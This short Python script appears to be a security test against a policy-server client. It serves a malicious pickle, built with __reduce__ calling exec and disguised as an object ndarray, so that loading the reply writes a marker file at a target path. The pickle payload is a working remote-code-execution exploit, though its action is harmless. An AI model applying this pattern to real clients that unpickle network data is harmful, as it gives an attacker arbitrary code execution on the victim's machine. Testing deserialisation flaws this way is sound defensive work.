"""Answers a pickle that would write a file where it is loaded."""

import pickle
from pathlib import Path

from pilotline_policy import Connection

TARGET = (Path(__file__).parent / "targets").read_text().strip()


class Payload:
    """Runs a command where it is loaded."""

    def __reduce__(self):
        return exec, (f"open({TARGET!r}, 'w').write('loaded')",)


connection = Connection()
connection.send({"control": "ee", "batched": True})
data = pickle.dumps(Payload())
array = {b"__ndarray__": True, b"data": data, b"dtype": "|O", b"shape": [1]}
while connection.receive():
    connection.send({"actions": array})
    if connection.receive():
        connection.send_bytes(data)
